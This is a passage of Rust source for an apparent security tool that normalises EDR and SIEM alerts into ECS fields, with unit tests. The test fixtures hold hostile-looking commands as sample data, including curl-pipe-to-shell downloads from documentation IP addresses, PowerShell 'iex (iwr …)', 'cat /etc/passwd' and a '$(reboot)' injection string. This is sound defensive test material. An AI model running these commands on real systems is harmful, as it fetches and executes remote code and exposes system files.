        let end = exec[start..].find(&format!("</{tag}>"))? + start;
        Some(xml_unescape(exec[start..end].trim()))
    };
    let cmd = inner("Command").filter(|c| !c.is_empty())?;
    Some((cmd, inner("Arguments").unwrap_or_default()))
}

/// Fills fields derivable from others: names from paths, command line from args and back, the
/// OS family from path shapes, event.category for process events.
/// Removes a string field that is empty (a collector that lost the value): it is no value, and
/// the value derived from other fields may take its place.
fn remove_empty(e: &mut Map<String, Json>, path: &str) {
    let (parents, last) = match path.rsplit_once('.') {
        Some((p, l)) => (Some(p), l),
        None => (None, path),
    };
    let mut cur = e;
    for k in parents.into_iter().flat_map(|p| p.split('.')) {
        match cur.get_mut(k) {
            Some(Json::Object(o)) => cur = o,
            _ => return,
        }
    }
    if cur
        .get(last)
        .and_then(Json::as_str)
        .is_some_and(|v| v.trim().is_empty())
    {
        cur.remove(last);
    }
}

/// Environment variables as ECS's `KEY=VALUE` strings, the process's and its parent's, whether
/// the product gave them so, as `{"key"|"name": …, "value": …}` pairs (Elastic Defend) or as
/// one object of names to values (Elastic Defend on macOS), so a playbook reads one shape.
fn env_vars(e: &mut Map<String, Json>) {
    let text = |v: Option<&Json>| match v {
        Some(Json::String(t)) => t.clone(),
        Some(Json::Null) | None => String::new(),
        Some(other) => other.to_string(),
    };
    for path in ["process.env_vars", "process.parent.env_vars"] {
        let Some(v) = get_path_mut(e, path) else {
            continue;
        };
        match v {
            Json::Array(vars) => {
                for v in vars.iter_mut() {
                    if let Json::Object(kv) = v
                        && let Some(k) = kv
                            .get("key")
                            .or_else(|| kv.get("name"))
                            .and_then(Json::as_str)
                    {
                        *v = Json::String(format!("{k}={}", text(kv.get("value"))));
                    }
                }
            }
            Json::Object(m) => {
                let list = m
                    .iter()
                    .map(|(k, x)| Json::String(format!("{k}={}", text(Some(x)))))
                    .collect();
                *v = Json::Array(list);
            }
            _ => {}
        }
    }
}

/// Programs only macOS has: one of them as the process or an ancestor names the system.
const MACOS_PROGRAMS: &[&str] = &[
    "osascript",
    "launchd",
    "launchctl",
    "dscl",
    "ditto",
    "plutil",
    "sw_vers",
    "softwareupdate",
    "pkgutil",
    "hdiutil",
    "codesign",
    "spctl",
    "csrutil",
    "tccutil",
    "xpcproxy",
    "sysadminctl",
    "osacompile",
    "screencapture",
    "system_profiler",
    "mdfind",
    "security",
    "defaults",
    "networksetup",
    "scutil",
    "diskutil",
    "dscacheutil",
    "systemsetup",
    "pbpaste",
    "pbcopy",
    "mdls",
    "kextstat",
    "profiles",
];

/// The absolute directory a shell command line `cd`s into right before it runs `cmd`
/// (`sh -c "cd /dev/shm/.x && python3 kworker.py"`), when `cmd` is what follows the `cd`.
fn cd_before(shell_cmd: &str, cmd: &str) -> Option<String> {
    use regex::Regex;
    use std::sync::LazyLock;
    static CD: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r#"(?:^|[;&|(]\s*|\s-c\s+["']?)cd\s+(?:--\s+)?["']?(/[^\s;&|"']*|~[^\s;&|"']*)["']?\s*(?:&&|;)\s*(?:exec\s+)?([^;&|"']+)"#)
            .expect("static regex")
    });
    let want: Vec<&str> = cmd.split_whitespace().take(2).collect();
    let first = |w: &str| basename_of(w).to_owned();
    CD.captures_iter(shell_cmd).find_map(|c| {
        let next: Vec<&str> = c[2].split_whitespace().take(2).collect();
        (next.len() == want.len() && first(next[0]) == first(want[0]) && next.get(1) == want.get(1))
            .then(|| c[1].trim_end_matches('/').to_owned())
            .filter(|d| !d.is_empty())
    })
}

fn derive(e: &mut Map<String, Json>) {
    // Near-ECS shapes (Kandji's EDR detections and the like): the process's `path`, its parent
    // as a sibling `parent_process` object, the endpoint as `device_name`.
    if let Some(Json::Object(p)) = e.get("process")
        && !p.contains_key("executable")
        && let Some(path) = p.get("path").filter(|v| {
            v.as_str()
                .is_some_and(|x| x.starts_with(['/', '\\']) || x.get(1..3) == Some(":\\"))
        })
    {
        let path = path.clone();
        set_path(e, "process.executable", path);
    }
    env_vars(e);
    // The signer of the program that ran, where the shipper put it beside the process: Santa's
    // certificate, or the executed file's X.509 subject (Filebeat's Santa module).
    if e.get("process").is_some_and(|p| {
        p.get("code_signature")
            .and_then(|c| c.get("subject_name"))
            .is_none()
    }) {
        let signer = [
            "santa.certificate.common_name",
            "file.x509.subject.common_name",
        ]
        .iter()
        .find_map(|p| {
            let mut keys = p.split('.');
            let first = e.get(keys.next()?)?;
            keys.try_fold(first, |v, k| v.get(k))
        })
        .filter(|v| v.as_str().is_some_and(|t| !t.trim().is_empty()))
        .cloned();
        if let Some(signer) = signer {
            set_path(e, "process.code_signature.subject_name", signer);
        }
    }
    // Santa's signing identifier (`platform:com.apple.bash`, `TEAMID:com.vendor.app`): what a
    // renamed copy of a system program still says it is.
    if e.get("process").is_some()
        && let Some(id) = e
            .get("santa")
            .and_then(|x| x.get("signing_id"))
            .filter(|v| v.as_str().is_some_and(|t| !t.trim().is_empty()))
            .cloned()
    {
        set_path(e, "process.code_signature.signing_id", id);
    }
    if e.get("process").is_some_and(|p| p.get("parent").is_none())
        && let Some(Json::Object(pp)) = e.get("parent_process").cloned()
    {
        for (from, to) in [
            ("path", "executable"),
            ("executable", "executable"),
            ("name", "name"),
            ("command_line", "command_line"),
            ("pid", "pid"),
        ] {
            if let Some(v) = pp.get(from).filter(|v| !v.is_null()) {
                set_path(e, &format!("process.parent.{to}"), v.clone());
            }
        }
    }
    if e.get("host").is_none()
        && let Some(h) = e.get("device_name").filter(|v| v.is_string()).cloned()
    {
        set_path(e, "host.name", h);
    }
    for prefix in [
        "process",
        "process.parent",
        "process.parent.parent",
        "process.group_leader",
    ] {
        remove_empty(e, &format!("{prefix}.command_line"));
        let doc = Json::Object(e.clone());
        let exe = get_str(&doc, &format!("{prefix}.executable")).map(str::to_owned);
        let name = get_str(&doc, &format!("{prefix}.name")).map(str::to_owned);
        let cmd = get_str(&doc, &format!("{prefix}.command_line")).map(str::to_owned);
        let args: Option<Vec<String>> = get_path(&doc, &format!("{prefix}.args"))
            .and_then(Json::as_array)
            .map(|a| {
                a.iter()
                    .filter_map(|x| x.as_str().map(str::to_owned))
                    .collect()
            });
        if name.is_none()
            && let Some(x) = &exe
        {
            set_path(e, &format!("{prefix}.name"), s(funcs::basename(x)));
        }
        if cmd.is_none() {
            if let Some(a) = &args
                && !a.is_empty()
            {
                let joined = a
                    .iter()
                    .map(|x| {
                        if x.contains(char::is_whitespace) {
                            format!("\"{x}\"")
                        } else {
                            x.clone()
                        }
                    })
                    .collect::<Vec<_>>()
                    .join(" ");
                set_path(e, &format!("{prefix}.command_line"), s(&joined));
            } else if let Some(t) = get_str(&doc, &format!("{prefix}.title"))
                && !t.trim().is_empty()
            {
                // Some collectors (auditbeat's system module) keep only the process title.
                set_path(e, &format!("{prefix}.command_line"), s(t.trim()));
                let a: Vec<String> = funcs::split_args(t);
                if exe.is_none()
                    && name.is_none()
                    && let Some(f) = a.first()
                {
                    set_path(e, &format!("{prefix}.name"), s(funcs::basename(f)));
                }
                let a = a.into_iter().map(Json::String).collect();
                set_path(e, &format!("{prefix}.args"), Json::Array(a));
            }
        } else if args.is_none() {
            let a: Vec<Json> = funcs::split_args(cmd.as_deref().unwrap_or_default())
                .into_iter()
                .map(Json::String)
                .collect();
            set_path(e, &format!("{prefix}.args"), Json::Array(a));
        }
        if exe.is_none() && name.is_none() {
            let first = args.as_ref().and_then(|a| a.first().cloned()).or_else(|| {
                cmd.as_deref()
                    .and_then(|c| funcs::split_args(c).into_iter().next())
            });
            if let Some(f) = first {
                set_path(e, &format!("{prefix}.name"), s(funcs::basename(&f)));
            }
        }
    }
    let doc = Json::Object(e.clone());
    // A shell's `-c 'cd DIR && CMD'` (cron's and many launchers' way) started the process:
    // it runs in DIR, where its relative script (`python3 kworker.py`) lives.
    if get_str(&doc, "process.working_directory").is_none()
        && let Some(pc) = get_str(&doc, "process.parent.command_line")
        && let Some(cmd) = get_str(&doc, "process.command_line")
        && let Some(dir) = cd_before(pc, cmd)
    {
        set_path(e, "process.working_directory", s(&dir));
    }
    if get_str(&doc, "host.os.type").is_none() {
        let hint = [
            get_str(&doc, "host.os.family"),
            get_str(&doc, "host.os.platform"),
            get_str(&doc, "host.os.name"),
        ]
        .into_iter()
        .flatten()
        .map(|x| x.to_ascii_lowercase())
        .next();
        let exe = get_str(&doc, "process.executable")
            .or_else(|| get_str(&doc, "process.parent.executable"))
            .unwrap_or("");
        let os = match hint.as_deref() {
            Some(h) if h.contains("windows") => Some("windows"),
            Some(h) if h.contains("mac") || h.contains("darwin") => Some("macos"),
            Some(h)
                if h.contains("linux")
                    || h.contains("ubuntu")
                    || h.contains("debian")
                    || h.contains("rhel")
                    || h.contains("centos") =>
            {
                Some("linux")
            }
            _ if exe.len() > 2 && exe.as_bytes()[1] == b':' || exe.contains('\\') => {
                Some("windows")
            }
            // A Windows event log's channel or provider (winlogbeat's `winlog`).
            _ if get_str(&doc, "winlog.channel").is_some()
                || get_str(&doc, "event.provider")
                    .is_some_and(|p| p.starts_with("Microsoft-Windows-")) =>
            {
                Some("windows")
            }
            // A Windows path anywhere in the chain or its working directory, or a program
            // named `….exe`.
            _ if [
                "process.parent.parent.executable",
                "process.working_directory",
            ]
            .iter()
            .filter_map(|k| get_str(&doc, k))
            .any(|p| p.len() > 2 && p.as_bytes()[1] == b':' && p.contains('\\'))
                || ["process.name", "process.parent.name"]
                    .iter()
                    .filter_map(|k| get_str(&doc, k))
                    .any(|n| n.to_ascii_lowercase().ends_with(".exe")) =>
            {
                Some("windows")
            }
            // The process, its parent or grandparent, or its working directory in a place only
            // macOS has (a mounted disk image, a home under /Users, launchd as the ancestor).
            _ if [
                "process.executable",
                "process.parent.executable",
                "process.parent.parent.executable",
                "process.working_directory",
            ]
            .iter()
            .filter_map(|k| get_str(&doc, k))
            .any(|p| {
                [
                    "/System/",
                    "/Applications/",
                    "/Library/",
                    "/Users/",
                    "/private/",
                    "/Volumes/",
                    "/opt/homebrew/",
                    "/var/folders/",
                ]
                .iter()
                .any(|m| p.starts_with(m))
                    || p == "/sbin/launchd"
                    || p == "/usr/bin/osascript"
            }) || [
                "process.name",
                "process.parent.name",
                "process.parent.parent.name",
            ]
            .iter()
            .filter_map(|k| get_str(&doc, k))
            .any(|n| MACOS_PROGRAMS.contains(&n)) =>
            {
                Some("macos")
            }
            _ if exe.starts_with('/') => Some("linux"),
            _ => None,
        };
        if let Some(os) = os {
            set_path(e, "host.os.type", s(os));
        }
    }
    if get_path(&doc, "event.category").is_none() && get_path(&doc, "process").is_some() {
        set_path(e, "event.category", serde_json::json!(["process"]));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn dotted_and_nested_mix() {
        let a = from_json(json!({"process.name": "bash", "process": {"pid": 4, "parent.name": "sshd"}, "host.name": "web1", "process.executable": "/bin/bash"}), "x").unwrap();
        assert_eq!(a.doc["process"]["name"], "bash");
        assert_eq!(a.doc["process"]["pid"], 4);
        assert_eq!(a.doc["process"]["parent"]["name"], "sshd");
        assert_eq!(a.doc["host"]["os"]["type"], "linux");
    }

    #[test]
    fn kibana_alert_techniques() {
        let a = from_json(json!({
            "kibana.alert.uuid": "abc",
            "kibana.alert.rule.threat": [{"framework": "MITRE ATT&CK", "tactic": {"id": "TA0002"}, "technique": [{"id": "T1059", "subtechnique": [{"id": "T1059.001"}]}]}],
            "process": {"command_line": "powershell -enc AAAA", "executable": "C:\\Windows\\powershell.exe"}
        }), "x").unwrap();
        assert_eq!(a.id, "abc");
        assert_eq!(
            a.doc["threat"]["technique"]["id"],
            json!(["T1059", "T1059.001"])
        );
        assert_eq!(a.doc["process"]["name"], "powershell.exe");
        assert_eq!(a.doc["host"]["os"]["type"], "windows");
    }

    #[test]
    fn bad_documents_are_reported_with_position() {
        let r = parse_text("{\"process\": {\"name\": \"sh\"}}\nnot json\n[1]\n{}\n");
        assert_eq!(r.len(), 4);
        assert!(r[0].is_ok());
        let e = r[1].as_ref().unwrap_err();
        assert!(e.position.starts_with("line 2"), "{e}");
        assert!(r[2].as_ref().unwrap_err().reason.contains("object"));
        assert!(r[3].is_err());
    }

    #[test]
    fn raw_log_text_is_read_where_json_is_not() {
        // Audit records of two interleaved events, a sudo line, a truncated JSON line and text
        // no reader knows: one alert per audit event (at its first line), the rest reported.
        let text = concat!(
            "type=SYSCALL msg=audit(1700000000.123:4567): arch=c000003e syscall=59 success=yes exit=0 ppid=1234 pid=1240 auid=1000 uid=0 euid=0 comm=\"bash\" exe=\"/usr/bin/bash\" key=\"exec\"\n",
            "type=SYSCALL msg=audit(1700000000.200:4568): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=1300 auid=4294967295 uid=0 euid=0 comm=\"id\" exe=\"/usr/bin/id\"\n",
            "type=EXECVE msg=audit(1700000000.123:4567): argc=3 a0=\"bash\" a1=\"-c\" a2=\"curl -s http://203.0.113.9/x.sh | bash\"\n",
            "type=CWD msg=audit(1700000000.123:4567): cwd=\"/tmp\"\n",
            "Mar  1 10:00:00 web01 sudo[2211]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash -c id\n",
            "{\"process\": {\"name\": \n",
            "hello, {{7*7}} $(reboot)\n",
        );
        let r = parse_text(text);
        assert_eq!(r.len(), 5, "{r:?}");
        let a = r[0].as_ref().unwrap();
        assert_eq!(a.position, "line 1");
        assert_eq!(a.doc["process"]["executable"], "/usr/bin/bash");
        assert_eq!(
            a.doc["process"]["command_line"],
            "bash -c \"curl -s http://203.0.113.9/x.sh | bash\""
        );
        assert_eq!(a.doc["user"]["name"], "root");
        assert_eq!(r[1].as_ref().unwrap().position, "line 2");
        let sudo = r[2].as_ref().unwrap();
        assert_eq!(sudo.doc["process"]["parent"]["executable"], "/usr/bin/sudo");
        assert_eq!(sudo.doc["user"]["name"], "alice");
        let bad = r[3].as_ref().unwrap_err();
        assert!(
            bad.position.starts_with("line 6") && bad.reason.starts_with("not valid JSON"),
            "{bad}"
        );
        let unknown = r[4].as_ref().unwrap_err();
        assert_eq!(unknown.position, "line 7");
        assert!(unknown.reason.contains("raw log text"), "{unknown}");
        assert!(unknown.excerpt.contains("{{7*7}}"));

        // Windows events as XML, wrapped as an export holds them: one alert per <Event>.
        let ev = |n: u32, cmd: &str| {
            format!(
                "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>\n <System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ws{n}.corp.example</Computer></System>\n <EventData><Data Name='Image'>C:\\Windows\\System32\\cmd.exe</Data><Data Name='CommandLine'>{cmd}</Data><Data Name='ParentImage'>C:\\Windows\\explorer.exe</Data><Data Name='User'>CORP\\bob</Data></EventData>\n</Event>"
            )
        };
        let xml = format!(
            "<?xml version='1.0'?>\n<Events>\n{}\n{}\n</Events>\n",
            ev(1, "cmd /c whoami"),
            ev(2, "cmd /c echo &lt;b&gt;")
        );
        let r = parse_text(&xml);
        assert_eq!(r.len(), 2, "{r:?}");
        let a = r[0].as_ref().unwrap();
        assert_eq!(a.position, "event 1 (line 3)");
        assert_eq!(a.doc["process"]["command_line"], "cmd /c whoami");
        assert_eq!(a.doc["process"]["parent"]["name"], "explorer.exe");
        assert_eq!(
            r[1].as_ref().unwrap().doc["process"]["command_line"],
            "cmd /c echo <b>"
        );
        assert_eq!(r[1].as_ref().unwrap().position, "event 2 (line 7)");
    }

    #[test]
    fn sophos_wincollect_panther_api_and_signers_map_to_ecs() {
        let at = |a: &Alert, p: &str| {
            get_path(&a.doc, p)
                .and_then(Json::as_str)
                .unwrap_or("")
                .to_owned()
        };
        // Sophos Central's SIEM event: the detected process by command line, its parent named
        // in the detection's name, the technique in `threat`.
        let s1 = json!({"type": "Event::Endpoint::CoreDetection", "endpoint_id": "c1", "location": "WS-66",
            "source": "CORP\\tv", "threat": "Exec_7a (T1059.007)",
            "name": "Malicious behavior detected in 'C:\\Windows\\System32\\wscript.exe' started by 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'",
            "core_remedy_items": {"items": [{"type": "process", "descriptor": "\"C:\\Windows\\System32\\wscript.exe\" \"C:\\Users\\tv\\AppData\\Local\\Temp\\r.js\""}]}});
        let a = from_json(s1, "x").unwrap();
        assert_eq!(at(&a, "process.name"), "wscript.exe");
        assert!(at(&a, "process.command_line").ends_with("Temp\\r.js\""));
        assert_eq!(at(&a, "process.parent.name"), "WINWORD.EXE");
        assert_eq!(at(&a, "host.name"), "WS-66");
        assert_eq!(at(&a, "user.name"), "tv");
        assert_eq!(a.doc["threat"]["technique"]["id"], json!(["T1059.007"]));
        // A bare path for the script host, the script as the detection's file, the next
        // process in the remediation chain as the parent; a detection's own file metadata.
        let s2 = json!({"type": "Event::Endpoint::CoreDetection", "customer_id": "c", "location": "LT-1",
            "name": "Malicious behavior detected in 'C:\\Windows\\System32\\wscript.exe' (Exec_38a)",
            "filePath": "C:\\Users\\j\\AppData\\Local\\Temp\\7zO1\\a.js",
            "core_remedy_items": {"items": [
                {"type": "process", "descriptor": "C:\\Windows\\System32\\wscript.exe", "processPath": "C:\\Windows\\System32\\wscript.exe"},
                {"type": "process", "descriptor": "C:\\Program Files\\7-Zip\\7zFM.exe"}]}});
        let a = from_json(s2, "x").unwrap();
        assert_eq!(
            at(&a, "process.command_line"),
            "\"C:\\Windows\\System32\\wscript.exe\" \"C:\\Users\\j\\AppData\\Local\\Temp\\7zO1\\a.js\""
        );
        assert_eq!(at(&a, "process.parent.name"), "7zFM.exe");
        let s3 = json!({"type": "Event::Endpoint::CoreDetection", "endpoint_id": "e", "location": "MAC-2", "source": "n/a",
            "name": "Suspicious behaviour detected in '/Users/Shared/.cache/pyd' (Exec_28a)",
            "process_details": {"cmd_line": "", "original_filename": "python3.11", "username": "amy", "network": [{"remote_ip": "91.210.107.46"}]}});
        let a = from_json(s3, "x").unwrap();
        assert_eq!(at(&a, "process.executable"), "/Users/Shared/.cache/pyd");
        assert_eq!(at(&a, "process.pe.original_file_name"), "python3.11");
        assert_eq!(at(&a, "user.name"), "amy");
        assert_eq!(at(&a, "destination.ip"), "91.210.107.46");
        // QRadar's WinCollect payload: a PowerShell pipeline event whose rendered message lost
        // its line breaks.
        let q = json!({"events": [{"qid": 5001926, "Process Name": "wsmprovhost.exe",
            "UTF8(payload)": "<13>Mar 25 14:23:07 WEB-3 AgentDevice=WindowsLog\tAgentLogFile=Microsoft-Windows-PowerShell/Operational\tComputer=WEB-3.corp.example\tUser=adm-s\tDomain=CORP\tEventID=4103\tMessage=CommandInvocation(Restart-WebAppPool): \"Restart-WebAppPool\"  Context:          Severity = Informational          Host Name = ServerRemoteHost          Host Application = C:\\Windows\\system32\\wsmprovhost.exe -Embedding          Engine Version = 5.1          Script Name =           User = CORP\\adm-s          Connected User = CORP\\adm-s          Shell ID = Microsoft.PowerShell      User Data:   "}]});
        let a = from_json(q, "x").unwrap();
        assert_eq!(
            at(&a, "process.command_line"),
            "C:\\Windows\\system32\\wsmprovhost.exe -Embedding"
        );
        assert_eq!(at(&a, "powershell.command.name"), "Restart-WebAppPool");
        assert_eq!(at(&a, "user.name"), "adm-s");
        assert_eq!(at(&a, "host.name"), "WEB-3.corp.example");
        // A process creation (4688) whose rendered message lost its line breaks.
        let q2 = json!({"offense_type": 0, "magnitude": 8, "events": [{"qid": 1,
            "UTF8_payload": "<13>Mar 12 04:18:03 FS02 AgentDevice=WindowsLog\tAgentLogFile=Security\tComputer=FS02.corp.example\tUser=\tDomain=\tEventID=4688\tMessage=A new process has been created.  Creator Subject:  Security ID:  CORP\\adm-t  Account Name:  adm-t  Account Domain:  CORP  Logon ID:  0x3E1  Target Subject:  Security ID:  NULL SID  Account Name:  -  Process Information:  New Process ID:  0x1f48  New Process Name: C:\\Windows\\System32\\cmd.exe  Token Elevation Type: %%1936  Creator Process ID: 0x9c4  Creator Process Name: C:\\Windows\\System32\\wbem\\WmiPrvSE.exe  Process Command Line: cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__17 2>&1"}]});
        let a = from_json(q2, "x").unwrap();
        assert_eq!(at(&a, "process.parent.name"), "WmiPrvSE.exe");
        assert!(at(&a, "process.command_line").starts_with("cmd.exe /Q /c cd"));
        assert_eq!(at(&a, "user.name"), "adm-t");
        // Audit records a SIEM correlated: the shell's record (known by its arguments alone)
        // stays beside the newer child's.
        let q3 = json!({"offense_type": 0, "magnitude": 8, "events": [
            {"qid": 2, "UTF8_payload": "<14>Mar 12 03:22:40 web audispd: node=web type=SYSCALL msg=audit(1741749760.412:88213): arch=c000003e syscall=59 success=yes exit=0 ppid=2187 pid=3041 auid=4294967295 uid=33 euid=33 comm=\"sh\" exe=\"/usr/bin/dash\""},
            {"qid": 2, "UTF8_payload": "<14>Mar 12 03:22:40 web audispd: node=web type=EXECVE msg=audit(1741749760.412:88213): argc=3 a0=\"sh\" a1=\"-c\" a2=\"id;uname -a\""},
            {"qid": 2, "UTF8_payload": "<14>Mar 12 03:22:40 web audispd: node=web type=EXECVE msg=audit(1741749760.419:88216): argc=2 a0=\"cat\" a1=\"/etc/passwd\""}]});
        let a = from_json(q3, "x").unwrap();
        assert!(at(&a, "process.command_line").contains("id;uname -a"));
        // A case whose description holds the SIEM's event as fenced JSON: a script block is
        // what ran, though no process is named.
        let case = json!({"_type": "Alert", "title": "PowerShell obfuscation", "description": "Wazuh rule fired.\n\n```json\n{\"data\": {\"win\": {\"system\": {\"eventID\": \"4104\", \"providerName\": \"Microsoft-Windows-PowerShell\", \"computer\": \"LT-5\"}, \"eventdata\": {\"scriptBlockText\": \"iex (iwr http://203.0.113.7/a)\"}}}, \"agent\": {\"name\": \"LT-5\"}, \"rule\": {\"id\": \"1\"}}\n```"});
        let a = from_json(case, "x").unwrap();
        assert!(at(&a, "powershell.file.script_block_text").contains("iwr"));
        // Panther's alerts API (`analysisId`) with the osquery rows it matched.
        let p = json!({"alertId": "5d2", "analysisId": "Linux.Masquerade", "title": "Interpreter as kernel thread",
            "tags": ["T1036.004", "T1059.004"],
            "alertContext": {"path": "/usr/bin/bash", "cmdline": "[kworker/0:1H]"},
            "events": [{"name": "pack_process_events", "hostIdentifier": "web-2", "action": "added",
                "columns": {"path": "/usr/bin/bash", "cmdline": "[kworker/0:1H]", "pid": "9182", "parent": "1", "uid": "33"}}]});
        let a = from_json(p, "x").unwrap();
        assert_eq!(at(&a, "process.executable"), "/usr/bin/bash");
        assert_eq!(at(&a, "host.name"), "web-2");
        assert_eq!(
            a.doc["threat"]["technique"]["id"],
            json!(["T1036.004", "T1059.004"])
        );
        // Sophos naming the detected web server and the shell it started.
        let s4 = json!({"type": "Event::Endpoint::CoreDetection", "endpoint_id": "e", "location": "WEB-1", "appSha256": "0f8a",
            "name": "Malicious behavior detected in 'w3wp.exe' (PID: 4412)", "process_path": "c:\\windows\\system32\\inetsrv\\w3wp.exe",
            "child_process_name": "cmd.exe", "child_process_command_line": "cmd /c \"whoami /all&echo [S]&cd&echo [E]\""});
        let a = from_json(s4, "x").unwrap();
        assert_eq!(at(&a, "process.name"), "cmd.exe");
        assert_eq!(at(&a, "process.parent.name"), "w3wp.exe");
        assert_eq!(at(&a, "process.parent.hash.sha256"), "0f8a");
        // Slack's go-audit: records by type number, read as the audit lines they are.
        let g = json!({"sequence": 551, "timestamp": "1741999318.774", "messages": [
            {"type": 1300, "data": "audit(1741999318.774:551): arch=c000003e syscall=59 success=yes exit=0 ppid=2214 pid=30877 uid=992 euid=992 comm=\"perl\" exe=\"/usr/bin/perl\""},
            {"type": 1309, "data": "audit(1741999318.774:551): argc=3 a0=\"perl\" a1=\"-e\" a2=\"print 1\""}]});
        let a = from_json(g, "x").unwrap();
        assert_eq!(at(&a, "process.executable"), "/usr/bin/perl");
        assert_eq!(a.doc["process"]["args"], json!(["perl", "-e", "print 1"]));
        // Environment variables as key/value pairs read as `KEY=VALUE`.
        let ev = json!({"event": {"category": ["process"]}, "host": {"name": "h"},
            "process": {"command_line": "bash -c true", "executable": "/usr/bin/bash",
                        "env_vars": [{"key": "CI_JOB_ID", "value": "7"}, "HOME=/root"]}});
        let a = from_json(ev, "x").unwrap();
        assert_eq!(
            a.doc["process"]["env_vars"],
            json!(["CI_JOB_ID=7", "HOME=/root"])
        );
        // LAUREL's parent enrichment beside the SYSCALL record, with the parent's arguments.
        let l = json!({"ID": "1743985201.118:99", "SYSCALL": {"syscall": 59, "success": "yes", "pid": 7, "ppid": 6, "uid": 1007,
                "comm": "bash", "exe": "/usr/bin/bash", "UID": "etl", "SYSCALL": "execve"},
            "EXECVE": {"argc": 1, "ARGV": ["bash"]},
            "PPID": {"comm": "sh", "exe": "/usr/bin/dash", "ARGV": ["/bin/sh", "-c", "curl -fsS http://203.0.113.9/u | bash"]}});
        let a = from_json(l, "x").unwrap();
        assert_eq!(at(&a, "process.parent.executable"), "/usr/bin/dash");
        assert!(
            at(&a, "process.parent.command_line").contains("curl -fsS http://203.0.113.9/u | bash")
        );
        // Santa through Filebeat: the executed file's signer becomes the process's.
        let sa = json!({"event": {"action": "exec", "category": ["process"]}, "host": {"name": "mac-1", "os": {"type": "macos"}},
            "process": {"executable": "/Users/s/Library/x/AdobeSyncHelper", "name": "AdobeSyncHelper", "args": ["AdobeSyncHelper", "/Users/s/Library/x/.c/sync.py"]},
            "file": {"x509": {"subject": {"common_name": "Developer ID Application: Python Software Foundation (BMM5U3QVKW)"}}},
            "santa": {"signing_id": "BMM5U3QVKW:org.python.python"}});
        let a = from_json(sa, "x").unwrap();
        assert!(
            at(&a, "process.code_signature.subject_name").contains("Python Software Foundation")
        );
        assert_eq!(
            at(&a, "process.code_signature.signing_id"),
            "BMM5U3QVKW:org.python.python"
        );
    }

    #[test]
    fn query_results_watchlist_hits_and_events_embedded_as_text_map_to_ecs() {
        let cmd = |a: &Alert| {
            a.doc["process"]["command_line"]
                .as_str()
                .unwrap_or("")
                .to_owned()
        };
        // Snowflake's SQL API: columns by name, the event itself as JSON text in `RAW`.
        let sf = json!({"statementHandle": "01b", "resultSetMetaData": {"rowType": [{"name": "HOSTNAME"}, {"name": "RAW"}]},
            "data": [["web-1", "{\"process\": {\"command_line\": \"bash -c id\", \"executable\": \"/usr/bin/bash\"}}"]]});
        let r = from_json_expanded(sf, "x");
        assert_eq!(r.len(), 1);
        let a = r[0].as_ref().unwrap();
        assert_eq!(cmd(a), "bash -c id");
        assert_eq!(a.position, "x, row 1");
        // Athena: the first row is the header.
        let ath = json!({"ResultSet": {"Rows": [
            {"Data": [{"VarCharValue": "device_hostname"}, {"VarCharValue": "process_cmd_line"}, {"VarCharValue": "parent_process_file_path"}]},
            {"Data": [{"VarCharValue": "db-2"}, {"VarCharValue": "/bin/sh -c /opt/dba/backup.sh"}, {"VarCharValue": "/usr/sbin/cron"}]}]}});
        let a = from_json_expanded(ath, "x").remove(0).unwrap();
        assert_eq!(cmd(&a), "/bin/sh -c /opt/dba/backup.sh");
        assert_eq!(a.doc["process"]["parent"]["name"], "cron");
        // A Carbon Black EDR watchlist hit: one alert per process document.
        let cb = json!({"type": "watchlist.hit.process", "watchlist_name": "osascript from caches", "docs": [
            {"process_name": "osascript", "cmdline": "osascript", "path": "/usr/bin/osascript", "hostname": "MBA-1",
             "os_type": "osx", "username": "ann", "parent_path": "/Users/ann/Library/Caches/com.apple.x/helper",
             "segment_id": 1, "unique_id": "u-1"}]});
        let a = from_json_expanded(cb, "x").remove(0).unwrap();
        assert_eq!(a.doc["process"]["executable"], "/usr/bin/osascript");
        assert_eq!(a.doc["process"]["parent"]["name"], "helper");
        assert_eq!(a.doc["host"]["os"]["type"], "macos");
        assert_eq!(a.doc["rule"]["name"], "osascript from caches");
        // An SNS notification: the published event is the JSON text under `Message`.
        let sns = json!({"Type": "Notification", "TopicArn": "arn:aws:sns:x", "Message":
            "{\"process\": {\"command_line\": \"curl -s http://203.0.113.5/a | sh\"}, \"host\": {\"name\": \"b-1\"}}"});
        let a = from_json(sns, "x").unwrap();
        assert_eq!(a.doc["host"]["name"], "b-1");
        // A chat message with the event in a fenced code block, the host in its text.
        let slack = json!({"text": "osquery alert on MBA-7", "blocks": [{"type": "section", "text": {"type": "mrkdwn",
            "text": "```json\n{\"hostIdentifier\": \"MBA-7\", \"name\": \"pe\", \"action\": \"added\", \"columns\": {\"cmdline\": \"/bin/bash /Users/x/.hidden/run.sh\", \"path\": \"/bin/bash\", \"pid\": \"5\", \"parent\": \"1\"}}\n```"}}]});
        let a = from_json(slack, "x").unwrap();
        assert_eq!(cmd(&a), "/bin/bash /Users/x/.hidden/run.sh");
        // A ticket whose description is `Label: value` lines: the child process is the process.
        let sir = json!({"result": {"number": "SIR1", "description": "Rule fired.\nHost: SQL-4\nAccount: CORP\\svc-sql\nParent process: C:\\Program Files\\SQL\\SQLAGENT.EXE -i X\nProcess: C:\\Windows\\System32\\cmd.exe /c \"powershell -File D:\\DBA\\a.ps1\"\nChild process: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -File D:\\DBA\\a.ps1\n"}});
        let a = from_json(sir, "x").unwrap();
        assert!(
            cmd(&a).starts_with("C:\\Windows\\System32\\WindowsPowerShell"),
            "{}",
            a.doc
        );
        assert_eq!(
            a.doc["process"]["parent"]["executable"],
            "C:\\Windows\\System32\\cmd.exe"
        );
        assert_eq!(a.doc["host"]["name"], "SQL-4");
        assert_eq!(a.doc["user"]["name"], "svc-sql");
        // Text that reads as nothing stays unreadable.
        assert!(from_json(json!({"note": "```\nhello there, nothing here\n```"}), "x").is_err());
        // A service install whose data is a list of unnamed values (Fluentd's eventlog input).
